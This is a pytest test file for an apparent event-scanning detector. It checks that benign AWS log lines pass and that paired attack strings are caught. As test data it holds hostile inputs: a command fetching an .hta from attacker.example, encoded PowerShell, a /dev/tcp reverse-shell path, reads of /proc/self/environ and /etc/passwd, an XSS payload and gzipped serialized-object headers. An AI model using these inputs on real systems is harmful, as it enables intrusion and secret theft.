"""Text that AWS services write into events is not an attack, and the attacks that look like
it still are: each pair below differs in what makes the attack."""

from __future__ import annotations

import base64
import struct
import time
import zlib

import pytest

from eventguard.runtime.detectors import deserialization, scan


def _java_gzip_base64(data: bytes) -> str:
    """``data`` gzipped as Java's GZIPOutputStream (and CloudWatch Logs) write it: a header
    without time stamp, flags or OS (base64 ``H4sIAAAAAAAAA``), then base64."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = deflate.compress(data) + deflate.flush()
    trailer = struct.pack("<II", zlib.crc32(data), len(data))
    return base64.b64encode(b"\x1f\x8b\x08" + bytes(7) + body + trailer).decode()


LOGS = b'{"messageType":"DATA_MESSAGE","logGroup":"/aws/lambda/f","logEvents":[]}'
JAVA = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1"
PICKLE = b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94"
DOTNET = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02"
PHP = b'O:8:"stdClass":1:{s:1:"a";i:1;}'


def _rules(text: str) -> set[str]:
    return {rule for rule, _ in scan(text)}


@pytest.mark.parametrize("data", [LOGS, b"plain text of a log line\n", b"<a>b</a>"])
def test_gzipped_data_that_is_no_object_is_not_a_serialized_stream(data: bytes) -> None:
    text = _java_gzip_base64(data)
    assert text.startswith("H4sIAAAAAAAA")
    assert deserialization.detect(text) is None
    assert deserialization.detect(text.replace("+", "-").replace("/", "_")) is None


@pytest.mark.parametrize("data", [JAVA, PICKLE, DOTNET, PHP])
def test_gzipped_serialized_objects_are_found(data: bytes) -> None:
    assert deserialization.detect(_java_gzip_base64(data)) is not None
    assert deserialization.detect("token=" + _java_gzip_base64(data) + "; path=/") is not None


def test_a_gzip_stream_that_cannot_be_read_still_counts() -> None:
    """A cut header, or a stream cut before any content, proves nothing either way."""
    assert deserialization.detect("H4sIAAAAAAAA") is not None
    assert deserialization.detect("H4sIAAAAAAAAAJVUz") is not None


def test_an_object_after_a_harmless_gzip_stream_is_found() -> None:
    text = _java_gzip_base64(LOGS) + " " + _java_gzip_base64(JAVA)
    assert deserialization.detect(text) is not None


def test_many_gzip_streams_are_read_in_linear_time() -> None:
    one = _java_gzip_base64(LOGS) + " "
    text = one * ((1 << 20) // len(one))
    start = time.perf_counter()
    assert deserialization.detect(text) is None
    assert time.perf_counter() - start < 5


@pytest.mark.parametrize(
    "text",
    [
        "START RequestId: 6234bffe-149a-b642-81ff-2e8e376d8aff Version: $LATEST\n",
        "END RequestId: 6234bffe-149a-b642-81ff-2e8e376d8aff\n",
        "REPORT RequestId: 6234bffe Duration: 12.50 ms Billed Duration: 13 ms",
        "/dev/xvda",
        "/dev/sda1",
        "/dev/nvme0n1p1",
        "<order><comment>leave at door</comment></order>",
        "    at async Runtime.handleOnceNonStreaming (file:///var/runtime/index.mjs:1173:29)",
        "at handler (file:///var/task/index.mjs:12:7)\n    at process.processTicksAndRejections",
    ],
)
def test_text_services_write_is_not_an_attack(text: str) -> None:
    assert _rules(text) == set()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("start https://attacker.example/x.hta", "cmdi"),
        ("start calc.exe", "cmdi"),
        ("start /b powershell -enc AAAA", "cmdi"),
        ("/dev/tcp/10.0.0.1/4444", "path_traversal"),
        ("file=/dev/stdin", "path_traversal"),
        ("/dev/urandom", "path_traversal"),
        ("/proc/self/environ", "path_traversal"),
        ('<comment><img src="</comment><img src=x onerror=alert(1)//">', "xss"),
        ("url=file:///var/task/app.js", "ssrf"),
        ("url=file:///var/task/app.js", "path_traversal"),
        ("file:///var/task/index.mjs:1:1/../../../etc/passwd", "path_traversal"),
    ],
)
def test_the_attacks_beside_them_are_found(text: str, rule: str) -> None:
    assert rule in _rules(text)
